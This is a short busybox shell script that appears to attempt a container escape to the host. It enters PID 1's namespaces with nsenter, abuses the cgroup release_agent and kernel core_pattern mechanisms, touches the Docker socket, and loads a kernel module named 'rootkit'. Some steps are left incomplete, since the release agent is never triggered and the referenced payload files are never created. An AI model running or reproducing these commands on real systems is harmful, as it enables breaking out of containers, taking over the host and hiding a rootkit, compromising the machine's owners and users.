#!/bin/sh
# The last command of each shell is its own: a shell becomes its last program, and would be gone after 2 ms.
/bin/busybox mkdir -p /x
/bin/busybox sh -c '/bin/busybox nsenter -t 1 -m -u -i -n /bin/sh; /bin/busybox sleep 0.3; :'
/bin/busybox sh -c '/bin/busybox mount -t cgroup -o rdma cgroup /x; echo 1 >/x/notify_on_release; echo /cmd >/x/release_agent; /bin/busybox sleep 0.3; :'
/bin/busybox sh -c 'echo "|/tmp/core" >/proc/sys/kernel/core_pattern; /bin/busybox sleep 0.3; :'
/bin/busybox sh -c '/bin/busybox nc local:/var/run/docker.sock </dev/null; /bin/busybox insmod /x/rootkit.ko; /bin/busybox modprobe rootkit; /bin/busybox sleep 0.3; :'
exit 0
